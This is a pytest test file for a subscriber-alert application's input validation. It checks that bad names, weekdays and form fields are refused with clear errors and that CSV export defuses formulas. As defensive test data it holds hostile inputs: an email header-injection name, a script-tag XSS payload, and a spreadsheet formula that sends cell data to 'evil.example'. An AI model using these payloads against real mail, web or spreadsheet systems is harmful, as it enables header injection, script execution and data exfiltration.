"""M4, L2, L5, L10: what cannot be sent is refused where it comes in, with a clear error.

Names with control characters (CR, LF, NUL, vertical tab, Unicode line separators, bidi
overrides) or over 100 characters are refused by the CLI, the CSV import and the API; a weekday
such as "²" (which str.isdigit() passes and int() refuses) is a clear error in the CLI, a
reported row in the CSV import and a 422 on the preferences form, never a traceback or a 500.
CSV export never writes a cell a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
import requests
import sqlalchemy as sa
import yaml
from webapp import app_for, serve, settings_for

from lupus_alerts import mailer, store, subscribers, tokens
from lupus_alerts.cli import main as cli

BAD_NAMES = [
    "Eve\r\nBcc: victim@example.org",
    "Eve\nX",
    "Vera\x0bTab",  # vertical tab
    "Nul\x00Byte",
    "Tab\tName",
    "Line\u2028Separator",
    "Para\u2029Separator",
    "Bidi\u202eesreveR",  # right-to-left override
    "x" * 101,
]


@pytest.fixture
def config(tmp_path: Path) -> Path:
    url = f"sqlite:///{tmp_path / 'store.db'}"
    store.upgrade(url)
    cfg = tmp_path / "lupus-alerts.yaml"
    cfg.write_text(yaml.safe_dump({"store_url": url}), encoding="utf-8")
    return cfg


def _engine(config: Path) -> store.Engine:
    return store.get_engine(yaml.safe_load(config.read_text())["store_url"])


@pytest.mark.parametrize("name", BAD_NAMES)
def test_a_bad_name_is_refused_by_the_api_add_and_update(engine: sa.Engine, name: str) -> None:
    with pytest.raises(subscribers.InvalidSubscriber, match=r"^name: "):
        subscribers.add(engine, email="eve@example.org", name=name)
    ok = subscribers.add(engine, email="ok@example.org", name="Fine")
    with pytest.raises(subscribers.InvalidSubscriber, match=r"^name: "):
        subscribers.update(engine, ok.id, name=name)
    assert subscribers.get(engine, ok.id).name == "Fine"
    assert [s.email for s in subscribers.list_subscribers(engine)] == ["ok@example.org"]


@pytest.mark.parametrize("name", [n for n in BAD_NAMES if "\x00" not in n])  # argv cannot hold NUL
def test_a_bad_name_is_refused_by_the_cli(
    config: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli(["--config", str(config), "subscribers", "add", "eve@example.org", "--name", name]) == 1
    assert capsys.readouterr().err.startswith("error: name: ")
    assert subscribers.list_subscribers(_engine(config)) == []


def test_bad_names_are_reported_rows_of_a_csv_import(engine: sa.Engine) -> None:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["email", "name"])
    w.writerow(["good@example.org", "Good Name"])
    for i, name in enumerate(BAD_NAMES):
        w.writerow([f"bad{i}@example.org", name])
    report = subscribers.import_csv(engine, io.StringIO(buf.getvalue()))
    assert len(report.problems) == len(BAD_NAMES) and report.imported == 0
    assert all(p.reason.startswith("name: ") for p in report.problems)
    # Each bad row is named by its own first line, even after rows spanning several lines.
    assert (
        report.problems[0].line == 3 and report.problems[-1].email == f"bad{len(BAD_NAMES) - 1}@example.org"
    )


def test_the_longest_allowed_name_fits_a_header_line(engine: sa.Engine) -> None:
    for name in ("N" * 100, '"' * 100, "é" * 100, "😀" * 100):
        s = subscribers.add(engine, email=f"n{len(name.encode())}-{ord(name[0])}@example.org", name=name)
        assert s.name == name
        msg = mailer.build_message(
            _Digest(s),
            settings=settings_for(Path(".")),
            unsubscribe_url="https://alerts.example.org/u",
            now=datetime(2026, 11, 27, 9),
        )
        assert max(len(line) for line in msg.as_bytes().split(b"\r\n")) <= 998


class _Digest:
    def __init__(self, sub: subscribers.Subscriber) -> None:
        self.subscriber, self.period, self.subject = sub, "2026-11-27", "Lupus digest"
        self.html, self.text = "<p>x</p>", "x"


@pytest.mark.parametrize("weekday", ["²", "٣", "+3", "1_0", "３"])
def test_a_weekday_in_non_ascii_or_odd_digits_is_a_clear_error_everywhere(
    config: Path, weekday: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    engine = _engine(config)
    # CLI: an error naming the field, not a traceback
    code = cli(
        [
            "--config",
            str(config),
            "subscribers",
            "add",
            "w@example.org",
            "--frequency",
            "weekly",
            "--weekday",
            weekday,
        ]
    )
    assert code == 1 and capsys.readouterr().err.startswith("error: weekday: ")
    # CSV: a reported row with its line number; the rest of the file is still checked
    text = (
        "email,frequency,weekday\nok@example.org,weekly,2\n"
        f"w@example.org,weekly,{weekday}\nz@example.org,weekly,9\n"
    )
    report = subscribers.import_csv(engine, io.StringIO(text))
    assert [(p.line, p.reason.split(":")[0]) for p in report.problems] == [(3, "weekday"), (4, "weekday")]
    # The preferences form: 422 with the form again, nothing saved
    ana = subscribers.add(engine, email="ana@example.org", frequency="weekly", weekday=4)
    token = tokens.make_token(ana.link_key, "preferences", issued=datetime.now(UTC).date())
    settings = settings_for(tmp_path)
    with serve(app_for(engine, settings)) as base:
        r = requests.post(
            f"{base}/preferences?token={token}", data={"frequency": "weekly", "weekday": weekday}, timeout=5
        )
    assert r.status_code == 422 and "Not saved:" in r.text and "weekday" in r.text
    assert subscribers.get(engine, ana.id).weekday == 4


def test_every_preferences_form_field_refuses_hostile_values(engine: sa.Engine, tmp_path: Path) -> None:
    ana = subscribers.add(engine, email="ana@example.org", topics=["nephrology"])
    token = tokens.make_token(ana.link_key, "preferences", issued=datetime.now(UTC).date())
    hostile = ["<script>alert(1)</script>", "daily\r\nX: y", "\x00", "x" * 10_000]
    with serve(app_for(engine, settings_for(tmp_path))) as base:
        for value in hostile:
            for form in (
                {"topics": [value]},
                {"frequency": value},
                {"frequency": "weekly", "weekday": value},
            ):
                r = requests.post(f"{base}/preferences?token={token}", data=form, timeout=5)
                assert r.status_code == 422, form
                assert "<script>alert(1)</script>" not in r.text
    s = subscribers.get(engine, ana.id)
    assert (s.topics, s.frequency, s.weekday) == (frozenset({"nephrology"}), "daily", None)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_csv_export_never_writes_a_cell_a_spreadsheet_would_run(engine: sa.Engine, tmp_path: Path) -> None:
    for i, name in enumerate(FORMULAS):
        subscribers.add(engine, email=f"f{i}@example.org", name=name)
    subscribers.add(engine, email="=cmd@example.org", name="Plain")  # "=" is legal in an address
    out = tmp_path / "export.csv"
    subscribers.export_csv(engine, out)
    rows = list(csv.reader(out.open(encoding="utf-8")))[1:]
    cells = [c for row in rows for c in row[:2]]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'=cmd@example.org" in cells and "'" + FORMULAS[0] in cells
    # ... and the file imports back to exactly what was stored
    target = f"sqlite:///{tmp_path / 'copy.db'}"
    store.upgrade(target)
    copy = store.make_engine(target)
    report = subscribers.import_csv(copy, out)
    assert report.ok, report.problems
    assert {(s.email, s.name) for s in subscribers.list_subscribers(copy)} == {
        (s.email, s.name) for s in subscribers.list_subscribers(engine)
    }
    copy.dispose()


def test_a_control_character_in_a_configured_header_value_is_a_config_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every digest carries these: a typo must stop the run at load, not fail every subscriber."""
    cfg = tmp_path / "lupus-alerts.yaml"
    cfg.write_text(
        'digest:\n  reply_to: "editors@hospital-one.org\\r\\nBcc: all@hospital-one.org"\n', encoding="utf-8"
    )
    assert cli(["config", "check", str(cfg)]) == 2
    assert (
        "digest.reply_to: Value error, must be one line without control characters" in capsys.readouterr().err
    )
